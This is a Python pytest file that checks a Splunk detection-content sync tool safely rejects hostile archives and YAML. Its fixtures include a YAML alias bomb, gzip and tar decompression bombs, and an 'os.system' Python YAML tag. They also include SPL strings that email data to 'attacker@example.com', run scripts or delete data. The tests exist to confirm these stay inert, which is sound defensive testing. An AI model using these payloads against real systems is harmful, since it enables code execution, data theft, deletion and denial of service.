"""Hostile content through the offline sync (``build.py sync``: the core with the CSV writer).

Every archive is built here from tarfile/gzip (tests/hostile_archives.py), never copied from the
snapshots. Each run starts from an output folder that already holds a good sync of the base
content, so that "the rest is synced" (a hostile member) and "the previous tables untouched"
(a hostile archive) can both be checked byte for byte. Caps: docs/hostile-input.md.
"""

from __future__ import annotations

import json
import resource
import shutil
import time
from pathlib import Path

import pytest

from devtools.commands import sync as sync_command
from malicious_image.content.yaml_safe import MAX_BYTES, MAX_DEPTH
from malicious_image.sync.csv_writer import read_csv
from malicious_image.sync.tables import TABLE_NAMES
from tests import hostile_archives as H

TABLES = TABLE_NAMES
BASE_NAMES = {"Hostile Base 1", "Hostile Base 2", "Hostile Base 3"}
DANGEROUS = (
    '| sendemail to="attacker@example.com" server=mail.example.com',
    '| script python evil.py',
    '| outputlookup malicious_image_ecr_allowed_pushers.csv',
    '| collect index=main',
    '| delete',
)


def _sync(out: Path, archive: bytes, name: str = "content.tar.gz", *extra: str) -> tuple[int, dict, float]:
    path = out.parent / name
    path.write_bytes(archive)
    started = time.perf_counter()
    code = sync_command.main(["--source", str(path), "--out", str(out), "--quiet", *extra])
    seconds = time.perf_counter() - started
    return code, json.loads((out / "summary.json").read_text()), seconds


def _tables(out: Path) -> dict[str, bytes]:
    return {name: (out / f"{name}.csv").read_bytes() for name in TABLES}


def _conf_files(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*.conf"))


@pytest.fixture(scope="module")
def base_out(tmp_path_factory) -> Path:
    """An output folder holding a complete sync of the base content (the "previous tables")."""
    out = tmp_path_factory.mktemp("hostile") / "out"
    code, summary, _ = _sync(out, H.tarball([], commit="1" * 40), "base.tar.gz")
    assert code == 0, summary["message"]
    assert summary["counts"]["detections"] == 3 and summary["rejected"] == []
    return out


@pytest.fixture
def out(base_out, tmp_path) -> Path:
    copy = tmp_path / "out"
    shutil.copytree(base_out, copy, symlinks=True)
    return copy


def _detections(out: Path) -> dict[str, dict]:
    return {row["name"]: row for row in read_csv(out / "detections.csv")}


def _assert_rest_synced(out: Path, summary: dict, path: str, reason: str | tuple) -> None:
    assert summary["outcome"] == "updated", summary["message"]
    assert summary["commit"] == H.COMMIT
    hits = [r for r in summary["rejected"] if r["path"] == path]
    assert hits, summary["rejected"]
    reasons = (reason,) if isinstance(reason, str) else reason
    assert any(r in hits[0]["reason"] for r in reasons), hits[0]
    rows = _detections(out)
    assert BASE_NAMES <= set(rows)
    assert "Evil" not in rows
    assert {r["source_commit"] for r in rows.values()} == {H.COMMIT}


# -- hostile members: the member is rejected with its path and reason, the rest is synced ----------
@pytest.mark.parametrize("case", H.MEMBER_CASES, ids=lambda c: c.name)
def test_hostile_member_is_rejected_and_the_rest_synced(out, case):
    code, summary, seconds = _sync(out, H.tarball(case.entries()))
    assert code == 0
    _assert_rest_synced(out, summary, case.path, case.reason)
    assert seconds < 10
    # nothing was written outside the output folder's own files
    assert not (out.parent / "etc").exists() and not (out / "detections" / "cloud").exists()


ALIAS_BOMB = b"""name: Evil
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
i: &i [*h,*h,*h,*h,*h,*h,*h,*h,*h]
"""

_IDENT = "99999999-2222-4333-8444-000000000009"
_EVIL = "detections/cloud/evil.yml"

YAML_CASES = {
    "alias_bomb": (ALIAS_BOMB, "anchors and aliases are not allowed"),
    "deep_flow_nesting": (b"name: " + b"[" * 100_000 + b"]" * 100_000 + b"\n", f"deeper than {MAX_DEPTH} levels"),
    "deep_block_nesting": (
        b"name: Evil\nx:\n" + b"".join(b"  " * i + b"k:\n" for i in range(1, 200)) + b"  " * 200 + b"v: 1\n",
        # pure Python (Splunk) refuses the depth; libyaml bounds block nesting itself (yaml_safe.py)
        # and loads it, and the document is then refused for what it lacks
        (f"deeper than {MAX_DEPTH} levels", "field 'id' is missing"),
    ),
    "non_utf8": (H.detection_yaml("Evil", ident=_IDENT).replace(b"description: d", b"description: caf\xe9"),
                 "not UTF-8 text (byte 0xe9"),
    "utf16": (H.detection_yaml("Evil", ident=_IDENT).decode().encode("utf-16"), "not UTF-8"),
    "search_of_5mb": (H.detection_yaml("Evil", ident=_IDENT, search="`cloudtrail` " + "x" * (5 * 1024 * 1024)),
                      f"larger than the {MAX_BYTES:,} bytes accepted"),
    "python_tag": (b"name: !!python/object/apply:os.system ['id']\n", "not valid YAML"),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(YAML_CASES))
def test_hostile_yaml_is_rejected_with_its_reason_and_the_rest_synced(out, case):
    data, reason = YAML_CASES[case]
    code, summary, seconds = _sync(out, H.tarball([H.regular(_EVIL, data)]))
    assert code == 0
    _assert_rest_synced(out, summary, _EVIL, reason)
    assert seconds < 15


def test_a_list_of_100k_items_is_bounded_in_time_and_kept_as_data(out):
    """1.3 MB of YAML (under the 2 MB file cap): parsed in bounded time; the row holds every
    item as data (a multivalue cell), nothing else is affected."""
    mitre = ["T1204.003"] * 100_000
    data = H.detection_yaml("Big List", ident=_IDENT, mitre=mitre)
    assert len(data) < MAX_BYTES
    code, summary, seconds = _sync(out, H.tarball([H.regular(_EVIL, data)]))
    assert code == 0 and summary["outcome"] == "updated"
    assert seconds < 30
    assert BASE_NAMES <= set(_detections(out))
    assert summary["counts"]["detections"] == 4


def test_duplicate_detection_ids_are_all_kept_and_reported(out):
    twin = H.detection_yaml("Twin Of Base 1", ident=H.BASE_IDS[0])
    code, summary, _ = _sync(out, H.tarball([H.regular("detections/endpoint/twin.yml", twin)]))
    assert code == 0 and summary["outcome"] == "updated"
    assert summary["duplicate_detection_ids"] == {
        H.BASE_IDS[0]: ["detections/cloud/hostile_base_1.yml", "detections/endpoint/twin.yml"]
    }
    rows = _detections(out)
    assert rows["Twin Of Base 1"]["id"] == rows["Hostile Base 1"]["id"] == H.BASE_IDS[0]


# -- dangerous SPL stays data ----------------------------------------------------------------------
def test_dangerous_searches_are_synced_only_as_lookup_data(out, tmp_path):
    app_default = Path(__file__).resolve().parents[2] / "app" / "default"
    before = {p: (app_default / p).read_bytes() for p in ("savedsearches.conf", "macros.conf", "transforms.conf")}
    entries = [
        H.regular(
            f"detections/cloud/dangerous_{i}.yml",
            H.detection_yaml(f"Dangerous {i}", ident=f"99999999-2222-4333-8444-00000000010{i}",
                             search=f"`cloudtrail` eventName=PutImage {spl}"),
        )
        for i, spl in enumerate(DANGEROUS)
    ]  # fmt: skip
    evil_macro = b"name: evil_macro\ndefinition: '| sendemail to=x@example.com'\n"
    entries.append(H.regular("macros/evil_macro.yml", evil_macro))
    code, summary, _ = _sync(out, H.tarball(entries))
    assert code == 0 and summary["outcome"] == "updated", summary["message"]
    rows = _detections(out)
    for i, spl in enumerate(DANGEROUS):
        assert rows[f"Dangerous {i}"]["search"].endswith(spl)  # kept verbatim, as a cell of a lookup
    macros = {row["name"]: row for row in read_csv(out / "macros.csv")}
    assert macros["evil_macro"]["definition"] == "| sendemail to=x@example.com"
    # only CSV tables and JSON state were written: no conf file, no saved search, no macro stanza
    assert _conf_files(out) == []
    written = {p.suffix for p in out.rglob("*") if p.is_file() and p.name != ".lock"}
    assert written <= {".csv", ".json"}, written
    assert {p: (app_default / p).read_bytes() for p in before} == before


# -- hostile archives: the run fails with a specific reason, the previous tables are untouched -----
def _assert_failed_untouched(out: Path, before: dict, summary: dict, code: int, reason: str) -> None:
    assert code == 1
    assert summary["outcome"] == "failed"
    assert reason in summary["message"], summary["message"]
    assert "previous tables were left in place" in summary["message"]
    assert _tables(out) == before
    assert json.loads((out / "sync_state.json").read_text())["commit"] == "1" * 40


def _good() -> bytes:
    return H.tarball([H.regular(_EVIL, H.detection_yaml("Evil", ident=_IDENT))])


ARCHIVE_CASES = {
    "not_gzip_html": (lambda: b"<!DOCTYPE html><html><body>Proxy login</body></html>", "not gzip-compressed"),
    "not_gzip_zip": (lambda: b"PK\x03\x04" + bytes(200), "not gzip-compressed"),
    "empty_body": (lambda: b"", "not gzip-compressed"),
    "truncated_gzip": (lambda: H.truncated(_good()), "before the end of the gzip stream"),
    "truncated_in_member": (lambda: H.truncated(H.tarball([(H.regular(_EVIL, b"")[0], 300_000)], level=0), 0.5),
                            "cut short"),
    "gzip_of_not_tar": (lambda: __import__("gzip").compress(b"hello, not a tarball\n" * 100), "damaged"),
    "trailing_garbage": (lambda: _good() + b"\x00garbage" * 1000, ""),
}  # fmt: skip


@pytest.mark.parametrize("case", sorted(ARCHIVE_CASES))
def test_hostile_archive_fails_with_its_reason_and_leaves_the_tables(out, case):
    build, reason = ARCHIVE_CASES[case]
    before = _tables(out)
    code, summary, seconds = _sync(out, build())
    if case == "trailing_garbage":  # bytes after the gzip stream are ignored (counted, bounded)
        assert code == 0 and summary["outcome"] == "updated"
        return
    _assert_failed_untouched(out, before, summary, code, reason)
    assert seconds < 10


def test_gzip_bomb_stops_at_the_cap_quickly_with_little_memory(out):
    """1 GiB of zeros in a 1 MB gzip stream: stopped at the 512 MB cap in seconds, with RSS
    growing by far less than the decompressed size."""
    bomb = H.gzip_bomb()
    assert len(bomb) < 2 * H.MB
    before = _tables(out)
    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    code, summary, seconds = _sync(out, bomb, "bomb.tar.gz")
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - rss_before) / 1024
    _assert_failed_untouched(out, before, summary, code, "more than 512 MB")
    assert "decompression bomb" in summary["message"]
    assert seconds < 20
    assert grown_mb < 64, f"peak RSS grew by {grown_mb:.0f} MB"


@pytest.mark.parametrize(
    ("declared", "reason"),
    [(500 * H.MB, "more than 512 MB"), (600 * H.MB, "declares a member of 629145600 bytes")],
    ids=["under-the-cap", "over-the-cap"],
)
def test_bomb_inside_a_tar_member_stops_at_the_cap(out, declared, reason):
    """A member of zeros (skipped for its size) still counts against the cap; one declaring
    more than the cap is refused at its header."""
    archive = H.gzip_bomb(1024 * H.MB, prefix=H.tar_header("docs/zeros.bin", declared))
    assert len(archive) < 2 * H.MB
    before = _tables(out)
    code, summary, seconds = _sync(out, archive, "member_bomb.tar.gz")
    _assert_failed_untouched(out, before, summary, code, reason)
    assert seconds < 20


def test_an_archive_over_the_configured_cap_fails_and_leaves_the_tables(out):
    """Not a bomb: 3 MB of incompressible data in an unwanted member, with --max-archive-mb 2."""
    import os

    archive = H.tarball([H.regular("docs/noise.bin", os.urandom(3 * H.MB))], level=1)
    before = _tables(out)
    code, summary, _ = _sync(out, archive, "big.tar.gz", "--max-archive-mb", "2")
    _assert_failed_untouched(out, before, summary, code, "more than 2 MB (the configured cap)")
    code, summary, _ = _sync(out, archive, "big.tar.gz", "--max-archive-mb", "8")  # a higher cap: synced
    assert code == 0 and summary["outcome"] == "updated", summary["message"]
